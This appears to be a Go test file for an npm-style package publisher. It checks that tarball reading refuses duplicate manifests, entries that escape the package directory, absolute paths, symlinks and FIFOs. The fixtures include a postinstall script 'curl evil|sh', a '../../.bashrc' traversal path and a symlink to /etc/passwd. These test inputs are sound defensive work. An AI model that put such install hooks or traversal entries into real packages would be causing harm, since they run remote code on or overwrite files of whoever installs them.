package publishing

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

type tarEntry struct {
	name, body, link string
	typ              byte
}

func writeTarball(t *testing.T, entries []tarEntry) string {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range entries {
		typ := e.typ
		if typ == 0 {
			typ = tar.TypeReg
		}
		h := &tar.Header{Name: e.name, Typeflag: typ, Mode: 0o644, Linkname: e.link}
		if typ == tar.TypeReg {
			h.Size = int64(len(e.body))
		}
		if err := tw.WriteHeader(h); err != nil {
			t.Fatal(err)
		}
		if typ == tar.TypeReg {
			if _, err := tw.Write([]byte(e.body)); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(t.TempDir(), "pkg.tgz")
	if err := os.WriteFile(file, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	return file
}

// publish <file>.tgz sends the manifest npm would install, so a tarball
// that npm could unpack differently from what gonpm reads is refused.
func TestReadTarballRefusesAmbiguousOrEscapingEntries(t *testing.T) {
	good := tarEntry{name: "package/package.json", body: `{"name":"p","version":"1.0.0"}`}
	tests := []struct {
		name    string
		entries []tarEntry
		wantErr string
	}{
		{"a plain package", []tarEntry{good, {name: "package/index.js", body: "1"}}, ""},
		{"two package.json", []tarEntry{good, {name: "package/package.json", body: `{"name":"p","version":"1.0.0","scripts":{"postinstall":"curl evil|sh"}}`}}, "appears twice"},
		{"outside package/", []tarEntry{good, {name: "other/x.js", body: "1"}}, "outside package/"},
		{"dot-dot", []tarEntry{good, {name: "package/../../.bashrc", body: "1"}}, `".."`},
		{"absolute", []tarEntry{good, {name: "/tmp/x", body: "1"}}, "absolute"},
		{"symlink", []tarEntry{good, {name: "package/x.js", link: "/etc/passwd", typ: tar.TypeSymlink}}, "is a link"},
		{"fifo", []tarEntry{good, {name: "package/pipe", typ: tar.TypeFifo}}, "not a regular file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			raw, contents, err := readTarball(writeTarball(t, tt.entries))
			if tt.wantErr == "" {
				if err != nil || raw["name"] != "p" || len(contents.Files) != len(tt.entries) {
					t.Fatalf("readTarball = %v, %d files, %v", raw, len(contents.Files), err)
				}
				return
			}
			if err == nil || !strings.Contains(err.Error(), tt.wantErr) || !strings.Contains(err.Error(), "pkg.tgz") {
				t.Fatalf("err = %v, want one naming pkg.tgz and %q", err, tt.wantErr)
			}
		})
	}
}
